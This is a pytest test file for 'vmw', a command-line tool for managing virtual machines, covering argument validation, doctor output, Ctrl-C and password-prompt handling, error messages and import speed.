@pytest.mark.parametrize(("status", "code"), [("ok", 0), ("warn", 0), ("fail", 3)])
def test_doctor(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], status: str, code: int) -> None:
    monkeypatch.setattr(group, "reexec_argv", lambda _command: None)
    finding = doctor.Finding(doctor.Status(status), "it is so", "vmw host")
    monkeypatch.setattr(doctor, "CHECKS", [doctor.Check("this", lambda _settings: finding)])
    monkeypatch.setenv("VMW_PROGRAM", "./vmw")
    assert cli.run(["doctor", "--json"]) == code
    checks = json.loads(capsys.readouterr().out)["checks"]
    assert checks == [{"name": "this", "status": status, "message": "it is so", "fix": "./vmw host"}]
    assert cli.run(["doctor"]) == code
    assert capsys.readouterr().out == f"{status:<4}  this: it is so\n      mend: ./vmw host\n"


@pytest.mark.parametrize(
    "arguments",
    [
        ["frob"],
        ["spawn"],
        ["stop", "--timeout", "x", "one"],
        ["spawn", "--memory", "much", "/"],
        ["spawn", "--cpus", "0", "/"],
        ["spawn", "--name", "", "/"],
        ["spawn", "--name", "Not a label", "/"],
        ["spawn", "--secrets", "../x", "/"],
        ["secrets", "../x"],
        ["secrets", "Work"],
        ["list", "--frob"],
        ["ssh", "-v", "one"],
        ["image"],
        [],
    ],
)
def test_usage_errors(arguments: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.run(arguments) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert "error: " in captured.err
    assert captured.err.splitlines()[-1].startswith("hint: ")
    assert "Traceback" not in captured.err


def test_version_and_help(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.run(["--version"]) == 0
    assert capsys.readouterr().out.startswith("vmw ")
    assert cli.run(["--help"]) == 0
    assert "spawn" in capsys.readouterr().out


def test_interrupt(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def interrupted() -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(using, "user_settings", interrupted)
    assert cli.run(["list"]) == 130
    assert capsys.readouterr().err.strip() == "error: interrupted"


AS_USER = """
import os, runpy, sys
os.geteuid = lambda: 1234
sys.argv[0:1] = ["wrapper"]
runpy.run_path({wrapper!r}, run_name="__main__")
"""


def test_ctrl_c_at_the_question_for_the_password(fake_program: Callable[[str, str], Path], home: Path) -> None:
    fake_program("sudo", "exit 1")
    child, terminal = pty.fork()
    if child == 0:
        script = AS_USER.format(wrapper=str(ROOT / "wrapper"))
        os.execv(sys.executable, [sys.executable, "-c", script, "host"])  # noqa: S606 - the program itself, on the terminal
    text = _read_until(terminal, b"password for")
    assert not termios.tcgetattr(terminal)[3] & termios.ECHO
    # Python would keep a signal that comes just before it reads until something is typed.
    while Path(f"/proc/{child}/stat").read_text().rpartition(")")[2].split()[0] != "S":
        time.sleep(0.01)
    os.write(terminal, b"\x03")
    text += _read_until(terminal, b"interrupted\r\n")
    assert termios.tcgetattr(terminal)[3] & termios.ECHO
    _, status = os.waitpid(child, 0)
    os.close(terminal)
    assert os.waitstatus_to_exitcode(status) == 130, text
    assert b"Traceback" not in text


def _read_until(terminal: int, wanted: bytes) -> bytes:
    text = b""
    while wanted not in text and select.select([terminal], [], [], 10)[0]:
        try:
            text += os.read(terminal, 4096)
        except OSError:
            break
    assert wanted in text, text
    return text


def test_hints_after_ctrl_c_repeat_the_command(ansible: FakeAnsible) -> None:
    assert cli.run(["image", "prune"]) == 0
    assert ansible.runs[0].command == "vmw image prune"


def test_a_full_disk_is_told_in_words(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def full() -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), "/home/dev/.local/state/vmw/log/x.log")

    monkeypatch.setattr(using, "user_settings", full)
    assert cli.run(["list"]) == 1
    assert capsys.readouterr().err == "error: /home/dev/.local/state/vmw/log/x.log: No space left on device\n"


def test_debug_shows_the_traceback(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.run(["--debug", "logs", "none"]) == 4
    assert "Traceback" in capsys.readouterr().err


def _start(tmp_path: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    environment = {"HOME": str(tmp_path), "PATH": os.environ["PATH"], "LANG": "C.UTF-8"}
    command = [sys.executable, "-I", "-X", "importtime", str(ROOT / "wrapper"), *arguments]
    return subprocess.run(command, capture_output=True, text=True, check=False, env=environment)


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (["--help"], 0, ""),
        (["list"], 0, ""),
        (["list", "--json"], 0, ""),
        (["ssh", "one"], 1, "error: VM 'one' is not running (shut off)"),
        (["audit", "one"], 1, "error: the worktree /home/dev/one cannot be looked at"),
        (["port"], 0, "No port is published"),
        (["--version"], 0, ""),
        (["image", "list"], 0, "There is no golden image"),
        # A fresh home has no golden image.
        (["doctor"], 3, ""),
    ],
)
def test_quick_commands_import_nothing_slow(
    make_vm: Callable[..., Path],
    fake_program: Callable[[str, str], Path],
    arguments: list[str],
    code: int,
    said: str,
    home: Path,
) -> None:
    fake_program("virsh", 'case "$*" in *domstate*) echo "shut off";; esac')
    make_vm("one")
    done = _start(home, *arguments)
    lines = done.stderr.splitlines()
    imported = {line.rpartition("|")[2].strip() for line in lines if line.startswith("import time:")}
    rest = [line for line in lines if not line.startswith("import time:")]
    assert done.returncode == code, rest
    assert rest[0].startswith(said) if said else not rest, rest
    assert "typer" in imported
    slow = {"ansible", "ansible_runner", "rich", "yaml", "pydantic", "pexpect"}
    assert not {name.partition(".")[0] for name in imported} & slow


def test_a_closed_pipe_is_no_error(home: Path, make_vm: Callable[..., Path]) -> None:
    reader, writer = os.pipe()
    os.close(reader)
    environment = {"HOME": str(home), "PATH": os.environ["PATH"], "LANG": "C.UTF-8"}
    command = [sys.executable, "-I", str(ROOT / "wrapper"), "--version"]
    done = subprocess.run(command, stdout=writer, stderr=subprocess.PIPE, text=True, check=False, env=environment)
    os.close(writer)
    assert done.stderr == ""
    assert done.returncode == 1
